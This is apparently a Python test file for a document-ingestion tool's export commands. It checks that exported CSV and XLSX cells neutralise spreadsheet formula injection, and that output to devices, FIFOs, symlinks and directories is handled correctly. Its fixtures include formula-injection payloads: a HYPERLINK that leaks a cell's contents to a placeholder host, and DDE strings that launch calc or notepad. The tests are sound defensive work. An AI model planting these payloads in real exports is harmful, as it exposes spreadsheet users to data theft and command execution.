"""Hostile exports: task text a spreadsheet would run as a formula, and `-o` pointing
at a device, a FIFO or a symlink.

The plan is a real PDF: a fixture plan (tests/fixtures/plans/bd2023.yaml) whose first
tasks are printed as formulas, rendered by the fixture generator and ingested.
"""

from __future__ import annotations

import csv
import os
import stat
import sys
import threading
from pathlib import Path

import pytest
from store_fixtures import REPO, run_cli

from vnplans.exports.safe_cells import looks_like_formula, neutralise

sys.path.insert(0, str(REPO / "tests" / "fixtures"))
import generate  # noqa: E402

FORMULAS = [
    '=HYPERLINK("http://example.invalid/?leak="&A1,"Bấm vào đây")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C notepad'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
]


@pytest.fixture(scope="module")
def hostile_db(tmp_path_factory) -> tuple[str, Path]:
    tmp = tmp_path_factory.mktemp("hostile-export")
    plan = generate.load_plan(REPO / "tests" / "fixtures" / "plans" / "bd2023.yaml")
    tasks = [row for row in plan.appendix["rows"] if "task" in row]
    for row, formula in zip(tasks, FORMULAS, strict=False):
        row["task"] = formula
    pdf = tmp / "formulas.pdf"
    generate.render_plan(plan, pdf)
    url = f"sqlite:///{tmp / 'plans.db'}"
    result = run_cli("ingest", "--no-ocr", "--db", url, str(pdf))
    assert result.returncode == 0, result.stderr
    return url, tmp


def test_neutralise_only_touches_formula_text():
    assert [neutralise(f) for f in FORMULAS] == ["'" + f for f in FORMULAS]
    assert neutralise("Văn phòng Sở - Thanh tra") == "Văn phòng Sở - Thanh tra"
    assert neutralise(-2) == -2 and neutralise(None) is None
    assert neutralise("\uff1dcmd") == "'\uff1dcmd"
    assert looks_like_formula("\t=1") and not looks_like_formula("a=1")


def _csv_tasks(path: Path) -> list[str]:
    with path.open(encoding="utf-8", newline="") as fh:
        return [row["task"] for row in csv.DictReader(fh)]


def test_csv_export_neutralises_formulas(hostile_db):
    url, tmp = hostile_db
    out = tmp / "safe.csv"
    assert run_cli("export", "--db", url, "-o", str(out)).returncode == 0
    tasks = _csv_tasks(out)
    assert ["'" + f for f in FORMULAS] == [t for t in tasks if t.startswith("'")]
    assert not any(looks_like_formula(t) for t in tasks)
    raw = tmp / "raw.csv"
    assert run_cli("export", "--db", url, "--raw", "-o", str(raw)).returncode == 0
    assert [t for t in _csv_tasks(raw) if looks_like_formula(t)] == FORMULAS


def test_query_csv_neutralises_formulas(hostile_db):
    url, _tmp = hostile_db
    result = run_cli("query", "--db", url, "--format", "csv",
                     "SELECT task FROM assignments ORDER BY document_id, position")
    tasks = [row[0] for row in csv.reader(result.stdout.splitlines()[1:])]
    assert ["'" + f for f in FORMULAS] == [t for t in tasks if t.startswith("'")]


def test_xlsx_export_holds_text_cells_not_formulas(hostile_db):
    from openpyxl import load_workbook

    url, tmp = hostile_db
    out = tmp / "safe.xlsx"
    assert run_cli("export", "--db", url, "--format", "xlsx", "-o", str(out)).returncode == 0
    sheet = load_workbook(out)["assignments"]
    column = [c.value for c in sheet[1]].index("task") + 1
    cells = [sheet.cell(row=r, column=column) for r in range(2, sheet.max_row + 1)]
    assert not [c for c in cells if c.data_type == "f"]
    assert [c.value for c in cells if looks_like_formula(c.value)] == FORMULAS
    # openpyxl makes formulas of text starting with "=" only.
    raw = tmp / "raw.xlsx"
    assert run_cli("export", "--db", url, "--format", "xlsx", "--raw",
                   "-o", str(raw)).returncode == 0
    sheet = load_workbook(raw)["assignments"]
    assert sum(sheet.cell(row=r, column=column).data_type == "f"
               for r in range(2, sheet.max_row + 1)) == sum(f[0] == "=" for f in FORMULAS)


# --- -o FILE -------------------------------------------------------------------------

def test_output_to_a_full_device_fails_and_keeps_the_node(hostile_db):
    url, tmp = hostile_db
    device = tmp / "full"
    if not device.exists():
        os.mknod(device, 0o666 | stat.S_IFCHR, os.makedev(1, 7))  # what /dev/full is
    for fmt in ("xlsx", "csv", "parquet"):
        result = run_cli("export", "--db", url, "--format", fmt, "-o", str(device))
        assert result.returncode == 1
        assert result.stderr == f"vnplans: {device}: cannot write: No space left on device\n"
        assert stat.S_ISCHR(device.lstat().st_mode)  # still the device, not a file
    assert not [p for p in tmp.iterdir() if p.name.endswith(".tmp")]


def test_output_into_a_fifo_and_dev_null(hostile_db):
    url, tmp = hostile_db
    fifo = tmp / "pipe.csv"
    os.mkfifo(fifo)
    received: list[bytes] = []
    reader = threading.Thread(target=lambda: received.append(fifo.read_bytes()))
    reader.start()
    result = run_cli("export", "--db", url, "--format", "csv", "-o", str(fifo))
    reader.join(timeout=60)
    assert result.returncode == 0, result.stderr
    assert stat.S_ISFIFO(fifo.lstat().st_mode)
    assert received and received[0].startswith(b"row_id,document_id,")
    null = tmp / "null"
    os.mknod(null, 0o666 | stat.S_IFCHR, os.makedev(1, 3))
    for command in (["export", "--db", url, "--format", "xlsx"],
                    ["calendar", "--db", url], ["extract", "--no-ocr", str(tmp / "formulas.pdf")]):
        result = run_cli(*command, "-o", str(null))
        assert result.returncode == 0, result.stderr
        assert stat.S_ISCHR(null.lstat().st_mode)


def test_output_through_a_symlink_keeps_the_link(hostile_db):
    url, tmp = hostile_db
    real = tmp / "real.csv"
    real.write_text("old\n", encoding="utf-8")
    real.chmod(0o640)
    link = tmp / "link.csv"
    link.symlink_to(real)
    assert run_cli("export", "--db", url, "-o", str(link)).returncode == 0
    assert link.is_symlink() and link.resolve() == real
    assert real.read_text(encoding="utf-8").startswith("row_id,document_id,")
    assert stat.S_IMODE(real.stat().st_mode) == 0o640  # the replaced file's permissions
    assert run_cli("calendar", "--db", url, "-o", str(link)).returncode == 0
    assert link.is_symlink() and real.read_text(encoding="utf-8").startswith("BEGIN:VCALENDAR")


def test_output_to_a_directory_is_refused(hostile_db):
    url, tmp = hostile_db
    result = run_cli("export", "--db", url, "-o", str(tmp))
    assert result.returncode == 1
    assert result.stderr == f"vnplans: {tmp}: cannot write: Is a directory\n"
